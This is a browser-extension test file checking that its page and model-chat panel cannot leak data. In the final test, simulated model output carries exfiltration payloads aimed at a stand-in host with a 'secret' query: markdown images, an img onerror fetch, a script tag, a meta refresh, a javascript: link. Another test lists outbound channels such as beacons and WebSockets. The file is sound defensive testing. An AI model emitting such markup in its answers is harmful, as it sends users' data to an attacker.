// Nothing gets out of the extension's pages: neither by what a page or a model says, nor by anything that such text could become.
import { describe, expect, test } from 'vitest';
import { pieces, startOpenAiServer } from '../servers/openai-server.ts';
import { ask, openChat } from './chat-panel.ts';
import { chooseModels } from './choose-models.ts';
import { useBrowser } from './harness.ts';
import { pressMainButton, quotes, untilDone } from './summary-panel.ts';

const OUTSIDE = 'leak.example.org';

describe('leaks', () => {
  const subject = useBrowser();

  test('the recording proxy sees what an ordinary page asks for', async () => {
    const page = await subject.open('article.html');
    await page.evaluate((host) => fetch(`http://${host}/seen`, { mode: 'no-cors' }), OUTSIDE);
    expect(subject.driver.foreignRequests.splice(0)).toEqual([`http://${OUTSIDE}/seen`]);
  });

  test("the extension's policy stops every way out of its panel", async () => {
    const page = await subject.open('article.html');
    const panel = await subject.driver.openPanel(page);
    const outcome = await panel.evaluate(async (host) => {
      const url = (way: string) => `http://${host}/${way}`;
      const element = (tag: string, properties: object) =>
        document.body.append(Object.assign(document.createElement(tag), properties));
      element('img', { src: url('img') });
      element('video', { poster: url('poster') });
      element('iframe', { src: url('iframe') });
      element('link', { rel: 'prefetch', href: url('prefetch') });
      element('link', { rel: 'stylesheet', href: url('style') });
      element('script', { src: url('script') });
      element('style', { textContent: `body { background: url(${url('background')}) }` });
      const form = Object.assign(document.createElement('form'), { action: url('form'), target: '_self' });
      document.body.append(form);
      const refusedAtOnce = (attempt: () => unknown) => {
        try {
          attempt();
        } catch {
          // As good as what the others come to.
        }
      };
      refusedAtOnce(() => form.submit());
      refusedAtOnce(() => navigator.sendBeacon(url('beacon'), 'text'));
      refusedAtOnce(() => new WebSocket(`ws://${host}/socket`));
      return fetch(url('fetch'), { mode: 'no-cors' }).then(
        () => 'answered',
        () => 'refused',
      );
    }, OUTSIDE);
    expect(outcome).toBe('refused');
    expect(subject.driver.foreignRequests).toEqual([]);
    expect(await panel.evaluate(() => location.protocol)).toMatch(/extension:$/);
  });

  test('markup in the text of a page is shown as text', async () => {
    const page = await subject.open('hostile.html');
    const panel = await subject.driver.openPanel(page);
    await pressMainButton(panel);
    await untilDone(panel);
    expect((await quotes(panel)).join(' ')).toMatch(/<img src=|!\[a picture\]|<meta http-equiv|<script src/);
    const elements = await panel.evaluate(() =>
      [...document.querySelectorAll('main *')]
        .map(({ localName }) => localName)
        .filter((name) => /^(a|img|iframe|script|meta|link|form)$/.test(name)),
    );
    expect(elements).toEqual([]);
  });

  test('what a model says becomes no picture, frame, script or link of its own', async () => {
    const out = (way: string) => `http://${OUTSIDE}/${way}?q=secret`;
    const said = [
      `![seen](${out('markdown-image')})`,
      `<img src="${out('image')}" onerror="fetch('${out('error')}')">`,
      `<script src="${out('script')}"></script><meta http-equiv="refresh" content="0;url=${out('refresh')}">`,
      `<iframe src="${out('frame')}"></iframe><link rel="stylesheet" href="${out('style')}">`,
      `[a way out](javascript:location='${out('href')}') [another][1] <${out('automatic')}>`,
      `[1]: ${out('reference')}`,
      'The mill closed in 1988.',
    ].join('\n\n');
    const server = await startOpenAiServer({ answer: () => ({ pieces: pieces(said) }) });
    const panel = await subject.driver.openPanel(await subject.open('article.html'));
    await chooseModels(panel, {
      servers: [{ id: 'server', address: server.address, key: '', model: 'test-model', contextWindow: 8192 }],
      choices: { summarize: 'automatic', rewrite: 'automatic', chat: 'server', translate: 'automatic' },
    });
    await openChat(panel);
    await ask(panel, 'When did the mill close?');
    await panel.waitFor(() => document.querySelector('.turn .turn-actions'));
    expect(await panel.text('.turn .answer')).toContain('The mill closed in 1988.');
    const elements = await panel.evaluate(() =>
      [...document.querySelectorAll('.turn .answer *')]
        .map(({ localName }) => localName)
        .filter((name) => /^(a|img|iframe|script|meta|link|form|object|embed|svg|video|style)$/.test(name)),
    );
    expect(elements).toEqual([]);
    expect(await panel.evaluate(() => location.protocol)).toMatch(/extension:$/);
    expect(subject.driver.foreignRequests).toEqual([]);
    await server.close();
  });
});
